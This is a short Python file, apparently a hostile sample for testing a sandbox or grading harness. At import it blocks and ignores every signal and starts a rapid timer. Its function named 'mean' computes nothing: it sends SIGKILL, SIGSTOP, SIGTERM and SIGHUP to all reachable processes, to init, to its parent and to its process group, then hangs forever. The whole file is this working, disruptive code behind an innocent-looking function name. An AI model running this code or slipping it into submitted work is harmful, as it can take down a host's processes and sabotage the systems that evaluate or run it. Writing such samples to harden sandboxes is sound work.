"""Ignores all signals, blocks them, sets timers, and sends signals to everybody it can name."""

import contextlib
import os
import signal

for number in range(1, 65):
    with contextlib.suppress(OSError, ValueError):
        signal.signal(number, lambda *_: None)
signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
signal.setitimer(signal.ITIMER_REAL, 0.01, 0.01)


def mean(values):
    for target in (0, -1, 1, 2, 3, os.getppid(), os.getpid(), -os.getpgrp()):
        for number in (signal.SIGSTOP, signal.SIGKILL, signal.SIGTERM, signal.SIGHUP):
            with contextlib.suppress(OSError):
                os.kill(target, number)
    while True:
        signal.pause()
